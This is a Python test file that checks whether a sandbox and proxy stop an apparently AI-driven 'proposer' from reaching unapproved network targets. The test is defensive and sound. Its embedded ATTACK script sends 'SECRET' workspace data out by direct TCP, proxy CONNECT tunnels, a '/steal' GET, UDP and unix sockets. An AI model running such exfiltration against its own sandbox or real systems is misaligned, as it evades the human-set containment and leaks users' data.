"""`[proposer] network`, attacked from inside the proposer's sandbox (real bubblewrap, real
servers on the host's loopback): under "allow" the proposer reaches its model's API through
the engine's proxy, and a server it is not allowed receives nothing, whichever way it is
tried: a direct connection, the proxy, UDP, DNS, a unix socket at a path or an abstract one.
The same attack under "on" reaches that server: the test can fail."""

from __future__ import annotations

import json
import os
import shutil
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from autoresearch.isolation.confinement import confinement_for
from autoresearch.isolation.process import run_command
from autoresearch.isolation.proxy import ProposerNetwork, network_of
from autoresearch.isolation.sandbox import bwrap_problem
from autoresearch.testing.fake_openai import FakeOpenAI, serve
from autoresearch.testing.repo import make_repo
from listeners import Recorder, abstract_name, short_socket_dir

pytestmark = pytest.mark.skipif(bwrap_problem() is not None, reason="no bubblewrap")

ATTACK = r"""
import json, os, socket, urllib.request
said = {}
def attempt(name, action):
    try:
        said[name] = action()
    except Exception as exc:
        said[name] = f"failed: {type(exc).__name__}: {exc}"

def chat():
    body = json.dumps({"model": "m", "messages": [{"role": "user", "content": "hi"}]}).encode()
    request = urllib.request.Request(MODEL + "/v1/chat/completions", data=body,
                                     headers={"Content-Type": "application/json"})
    reply = json.loads(urllib.request.urlopen(request, timeout=10).read())
    return reply["choices"][0]["message"]["content"]

def tunnel(target, payload):
    proxy = os.environ["HTTPS_PROXY"].rsplit(":", 1)
    sock = socket.create_connection((proxy[0].split("//")[1], int(proxy[1])), timeout=5)
    sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    head = sock.recv(4096)
    if not head.startswith(b"HTTP/1.1 200"):
        return "refused: " + head.split(b"\r\n")[0].decode()
    sock.sendall(payload)
    reply = b""
    while chunk := sock.recv(65536):  # the server closes after its answer
        reply += chunk
    return reply.decode(errors="replace")

def direct(port):
    sock = socket.create_connection(("127.0.0.1", port), timeout=3)
    sock.sendall(b"SECRET workspace contents")
    return "connected"

def proxied_get(port):
    return urllib.request.urlopen(f"http://127.0.0.1:{port}/steal?data=SECRET", timeout=5).read()

def udp(port):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.sendto(b"SECRET over udp", ("127.0.0.1", port))
    sock.sendto(b"SECRET over dns", ("8.8.8.8", 53))
    return "sent"

def dns():
    return str(socket.getaddrinfo("example.com", 443))

def unix(address):
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.settimeout(3)
    sock.connect(address)
    sock.sendall(b"SECRET over a unix socket")
    return "connected"

if os.environ.get("HTTPS_PROXY", "").startswith("http://127.0.0.1:"):
    attempt("chat", chat)
    attempt("tunnel_model", lambda: tunnel(f"127.0.0.1:{MODEL_PORT}",
            b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}"))
    attempt("tunnel_other", lambda: tunnel(f"127.0.0.1:{OTHER}", b"SECRET through CONNECT"))
    attempt("tunnel_other_by_name", lambda: tunnel(f"localhost:{OTHER}", b"SECRET"))
    attempt("proxied_other", lambda: proxied_get(OTHER))
else:
    attempt("chat", chat)
attempt("direct_other", lambda: direct(OTHER))
attempt("direct_model", lambda: direct(MODEL_PORT))
attempt("udp", lambda: udp(UDP))
attempt("dns", dns)
attempt("unix_path", lambda: unix(UNIX_PATH))
attempt("unix_abstract", lambda: unix(ABSTRACT))
print(json.dumps(said))
"""


@dataclass
class Servers:
    model: FakeOpenAI
    model_port: int
    other: Recorder
    udp: Recorder
    unix_path: Recorder
    unix_abstract: Recorder
    path: Path
    abstract: str


@pytest.fixture
def servers() -> Iterator[Servers]:
    model, http = serve()  # serving already: a second loop on its socket outlives shutdown()
    folder = short_socket_dir()
    abstract = abstract_name()
    found = Servers(
        model=model,
        model_port=http.server_address[1],
        other=Recorder(),
        udp=Recorder("udp"),
        unix_path=Recorder("unix", str(folder / "daemon.sock")),
        unix_abstract=Recorder("unix", abstract),
        path=folder / "daemon.sock",
        abstract=abstract,
    )
    yield found
    http.shutdown()
    http.server_close()
    for recorder in (found.other, found.udp, found.unix_path, found.unix_abstract):
        recorder.close()
    shutil.rmtree(folder, ignore_errors=True)


def attack(
    tmp_path: Path, servers: Servers, network: ProposerNetwork
) -> tuple[dict[str, str], int]:
    """Run the attack as a proposer's command; what it said, and what the proxy refused."""
    checkout = make_repo(tmp_path / "repo", {"a.txt": "a\n"})
    state = checkout / ".autoresearch" / "c"
    workspace = state / "workspace"
    workspace.mkdir(parents=True)
    confinement = confinement_for(
        "bwrap", "autoresearch.toml", state_dir=state, root=checkout, objects=None
    )
    servers.model.add("a reply through the proxy", "a second reply")
    script = (
        f"MODEL = 'http://127.0.0.1:{servers.model_port}'\nMODEL_PORT = {servers.model_port}\n"
        f"OTHER = {servers.other.port}\nUDP = {servers.udp.port}\n"
        f"UNIX_PATH = {str(servers.path)!r}\nABSTRACT = {servers.abstract!r}\n" + ATTACK
    )
    (workspace / "attack.py").write_text(script)
    log = tmp_path / "network.log"
    confined = confinement.prepare(workspace, dict(os.environ), network=network, log=log)
    with confined:
        result = run_command(
            f"{sys.executable} attack.py",
            cwd=workspace,
            env=confined.env,
            timeout=60,
            stdout_path=tmp_path / "out",
            stderr_path=tmp_path / "err",
            wrap=confined.wrap,
            child_setup=confined.child_setup,
        )
    tally = confined.close()
    assert result.returncode == 0, (tmp_path / "err").read_text()
    said: dict[str, str] = json.loads((tmp_path / "out").read_text())
    return said, tally.refused


def test_allow_reaches_the_model_and_nothing_else(tmp_path: Path, servers: Servers) -> None:
    network = network_of("allow", [f"127.0.0.1:{servers.model_port}"])
    said, refused = attack(tmp_path, servers, network)
    # Its model's API works, by a plain HTTP request and through a CONNECT tunnel.
    assert said["chat"] == "a reply through the proxy"
    assert "a second reply" in said["tunnel_model"]
    assert len(servers.model.requests) == 2
    # Everything else: nothing arrived.
    assert said["tunnel_other"].startswith("refused: HTTP/1.1 403")
    assert said["tunnel_other_by_name"].startswith("refused: HTTP/1.1 403")
    assert said["proxied_other"].startswith("failed: HTTPError: HTTP Error 403")
    assert said["direct_other"].startswith("failed:")
    assert said["direct_model"].startswith("failed:")  # not even the model, but by the proxy
    assert said["dns"].startswith("failed:")
    for recorder in (servers.other, servers.udp, servers.unix_path, servers.unix_abstract):
        assert recorder.untouched, said
    assert refused == 3
    log = (tmp_path / "network.log").read_text()
    assert f"refused CONNECT 127.0.0.1:{servers.other.port}" in log
    assert f"refused GET 127.0.0.1:{servers.other.port}" in log


def test_off_reaches_nothing(tmp_path: Path, servers: Servers) -> None:
    said, refused = attack(tmp_path, servers, ProposerNetwork("off"))
    assert said["chat"].startswith("failed:") and not servers.model.requests
    for recorder in (servers.other, servers.udp, servers.unix_path, servers.unix_abstract):
        assert recorder.untouched, said
    assert refused == 0 and not (tmp_path / "network.log").exists()


def test_on_reaches_the_other_server_so_the_attack_is_real(
    tmp_path: Path, servers: Servers
) -> None:
    said, _ = attack(tmp_path, servers, ProposerNetwork("on"))
    # What the model's server received tells a request that went astray from one that came.
    assert said["direct_other"] == "connected", said
    assert said["chat"] == "a reply through the proxy", (said, servers.model.requests)
    deadline = time.monotonic() + 30
    while b"SECRET" not in bytes(servers.other.received) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert b"SECRET workspace contents" in bytes(servers.other.received)
    # a daemon's socket at a path stays covered whatever the network
    assert servers.unix_path.untouched


def test_the_relay_ends_with_the_command(tmp_path: Path) -> None:
    """Nothing of the sandbox (relay, a daemon the command left) outlives the command, and
    its exit code comes back as it was."""
    checkout = make_repo(tmp_path / "repo", {"a.txt": "a\n"})
    state = checkout / ".autoresearch" / "c"
    workspace = state / "workspace"
    workspace.mkdir(parents=True)
    confinement = confinement_for(
        "bwrap", "autoresearch.toml", state_dir=state, root=checkout, objects=None
    )
    network = network_of("allow", ["127.0.0.1:9"])
    marker = f"ar-relay-end-{os.getpid()}"
    with confinement.prepare(workspace, dict(os.environ), network=network) as confined:
        result = run_command(
            f"(exec -a {marker} sleep 60) & exit 7",
            cwd=workspace,
            env=confined.env,
            timeout=30,
            stdout_path=tmp_path / "out",
            stderr_path=tmp_path / "err",
            wrap=confined.wrap,
            child_setup=confined.child_setup,
        )
    assert result.returncode == 7 and result.seconds < 20
    from conftest import marked

    # The relay's command line (and the sandbox's) carries the command, marker included,
    # so a relay of this command that outlived it is found by the marker; any `relay.py`
    # would also find another test's relay, running meanwhile beside this one.
    assert marked(marker) == []


def test_without_a_sandbox_allow_is_refused_not_degraded(tmp_path: Path) -> None:
    from autoresearch.errors import ConfigError

    confinement = confinement_for(
        "none", "autoresearch.toml", state_dir=tmp_path, root=tmp_path, objects=None
    )
    workspace = tmp_path / "w"
    workspace.mkdir()
    with pytest.raises(ConfigError):
        confinement.prepare(workspace, {}, network=network_of("allow", ["api.openai.com"]))
